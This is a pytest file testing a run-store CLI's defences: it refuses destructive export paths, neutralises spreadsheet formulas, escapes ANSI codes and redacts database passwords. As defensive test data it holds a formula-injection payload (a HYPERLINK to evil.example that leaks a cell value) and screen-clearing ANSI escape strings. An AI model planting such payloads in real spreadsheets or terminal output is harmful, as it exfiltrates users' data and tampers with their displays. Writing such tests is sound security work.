"""Hostile and odd use of the run-store commands (issue 19): output paths that would destroy the
database or cannot hold a file, formulas in exported ids, markup / emoji / ANSI codes in ids,
and passwords in database URLs. Each bad case: one line, exit 2, nothing written or marked."""

from __future__ import annotations

import csv
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from cli_helpers import run_cli

from echelon.plan.model import PlanResult
from echelon.storage import load_run, save_run, set_status
from echelon.storage import review as review_module
from storage.factories import make_plan_result

HOSTILE_ITEM = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _statuses(db: Path) -> list[str]:
    return [r.status.value for r in load_run(str(db), "latest").recommendations]


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A SQLite run store in tmp/store/ with one run whose first two recommendations are
    approved."""
    path = tmp_path / "store" / "runs.db"
    path.parent.mkdir()
    result = make_plan_result()
    save_run(str(path), result)
    keys = [r.key for r in result.recommendations[:2]]
    set_status(str(path), 1, keys, "approve", "ana")
    return path


@dataclass(frozen=True)
class BadOut:
    name: str
    make: Callable[[Path, Path], Path]  # (tmp folder, database file) -> the --out path
    fragments: tuple[str, ...]


def _fifo(tmp: Path, _db: Path) -> Path:
    os.mkfifo(tmp / "orders.csv")
    return tmp / "orders.csv"


def _link(target: Callable[[Path, Path], Path]) -> Callable[[Path, Path], Path]:
    def make(tmp: Path, db: Path) -> Path:
        link = tmp / "orders.csv"
        link.symlink_to(target(tmp, db))
        return link

    return make


def _hard_link(tmp: Path, db: Path) -> Path:
    os.link(db, tmp / "orders.csv")
    return tmp / "orders.csv"


def _loop(tmp: Path, _db: Path) -> Path:
    (tmp / "orders.csv").symlink_to(tmp / "orders.csv")
    return tmp / "orders.csv"


BAD_OUTS = [
    BadOut("the_database", lambda t, db: db, ("--out would overwrite", "runs.db")),
    BadOut(
        "the_database_relative",
        lambda t, db: Path(os.path.relpath(db)),
        ("--out would overwrite", "runs.db"),
    ),
    BadOut("its_wal_file", lambda t, db: Path(f"{db}-wal"), ("--out would overwrite", "-wal")),
    BadOut("a_link_to_the_database", _link(lambda t, db: db), ("--out would overwrite",)),
    BadOut("a_hard_link_to_the_database", _hard_link, ("--out would overwrite",)),
    BadOut("a_folder", lambda t, db: t, ("--out must be a file", "a folder")),
    BadOut("dev_full", lambda t, db: Path("/dev/full"), ("must be a file", "character device")),
    BadOut("dev_null", lambda t, db: Path("/dev/null"), ("character device",)),
    BadOut("a_fifo", _fifo, ("must be a file", "FIFO")),
    BadOut(
        "a_link_to_dev_full",
        _link(lambda t, db: Path("/dev/full")),
        ("character device (through a link)",),
    ),
    BadOut("a_link_loop", _loop, ("--out is a link that cannot be followed",)),
    BadOut("below_a_file", lambda t, db: db / "orders.csv", ("cannot use this --out path",)),
]


def _listing(folder: Path) -> dict[str, int]:
    return {str(p): p.lstat().st_size for p in folder.rglob("*") if not p.name.endswith("-shm")}


@pytest.mark.parametrize("case", BAD_OUTS, ids=[c.name for c in BAD_OUTS])
def test_export_refuses_a_destructive_out_before_any_work(
    case: BadOut,
    db: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    out = case.make(tmp_path, db)
    before = _listing(tmp_path)
    db_bytes = db.read_bytes()
    code, stdout, err = run_cli(["export", "1", "--out", str(out), "--db", str(db)], capsys)
    assert code == 2 and stdout == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err, err
    for fragment in case.fragments:
        assert fragment in lines[0], f"{fragment!r} not in {lines[0]!r}"
    assert _statuses(db)[:2] == ["approved", "approved"]  # nothing marked exported
    assert db.read_bytes() == db_bytes or _statuses(db).count("exported") == 0
    assert _listing(tmp_path) == before  # nothing written, replaced or removed


def test_export_that_cannot_be_written_marks_nothing(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A disk that fills up (ENOSPC, as on /dev/full) while the file is written: one line, the
    rows stay approved, no file is left behind."""

    def full(path: object, text: str) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(review_module, "atomic_write_text", full)
    out = tmp_path / "orders.csv"
    code, _, err = run_cli(["export", "1", "--out", str(out), "--db", str(db)], capsys)
    assert code == 2 and "No space left on device" in err and len(err.strip().splitlines()) == 1
    assert not out.exists()
    assert _statuses(db)[:2] == ["approved", "approved"]


def _hostile_result(**fields: str) -> PlanResult:
    base = make_plan_result()
    first = base.recommendations[0].model_copy(update=fields)
    return base.model_copy(update={"recommendations": [first, *base.recommendations[1:]]})


def test_export_neutralizes_spreadsheet_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "runs.db")
    result = _hostile_result(
        key=f"order:{HOSTILE_ITEM}", item=HOSTILE_ITEM, location="+CA_1", source="@SUM(A1)"
    )
    save_run(db, result)
    set_status(db, 1, "all", "approve", "ana")
    out = tmp_path / "orders.csv"
    code, _, err = run_cli(["export", "1", "--out", str(out), "--db", db], capsys)
    assert code == 0, err
    with out.open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    first = rows[0]
    assert first["item"] == "'" + HOSTILE_ITEM
    assert first["location"] == "'+CA_1" and first["source"] == "'@SUM(A1)"
    assert first["key"] == f"order:{HOSTILE_ITEM}"  # does not start with a formula character
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
    assert rows[1]["quantity"] == "13"  # numbers untouched


def test_keys_with_markup_emoji_and_ansi_print_literally_and_paste_into_approve(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "runs.db")
    key = "order:FOODS_1:DC:a:->[red]S1[/]"
    result = _hostile_result(key=key, item="FOODS_1", location="S\x1b[2J\x1b[31mX")
    save_run(db, result)
    code, out, err = run_cli(["recommendations", "1", "--db", db], capsys)
    assert code == 0, err
    assert key in out  # no emoji, no markup applied: the key as stored
    assert "\x1b" not in out and "\\x1b[2J" in out  # the ANSI codes shown, not obeyed
    assert "🅰" not in out
    code, out, err = run_cli(["approve", "1", key, "--by", "ana", "--db", db], capsys)
    assert code == 0 and key in out, err


def test_error_lines_escape_control_characters(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run_cli(["approve", "1", "evil\x1b[2Jkey", "--by", "a", "--db", str(db)], capsys)
    assert code == 2 and "\x1b" not in err and "\\x1b[2J" in err


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://planner:s3cr3t-pw@127.0.0.1:1/echelon",
        "postgresql://planner@127.0.0.1:1/echelon?password=s3cr3t-pw",
        "postgresql://127.0.0.1:1/echelon?sslmode=disable&password=s3cr3t-pw",
    ],
)
def test_database_passwords_are_never_printed(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run_cli(["runs", "--db", url], capsys)
    assert code == 2 and len(err.strip().splitlines()) == 1
    assert "s3cr3t" not in out + err


@pytest.mark.parametrize(
    ("make", "fragment"),
    [
        (lambda t: Path("/dev/zero"), "a character device"),
        (lambda t: t, "a folder"),
        (lambda t: (os.mkfifo(t / "db"), t / "db")[1], "a FIFO"),
        (lambda t: ((t / "db").symlink_to("/dev/null"), t / "db")[1], "a character device"),
    ],
    ids=["dev_zero", "folder", "fifo", "link_to_dev_null"],
)
def test_a_database_that_is_not_a_regular_file_is_one_line(
    make: Callable[[Path], Path], fragment: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = make(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    code, _, err = run_cli(["runs", "--db", str(db)], capsys)
    assert code == 2 and len(err.strip().splitlines()) == 1, err
    assert "must be a regular file" in err and fragment in err
    assert sorted(p.name for p in tmp_path.iterdir()) == before
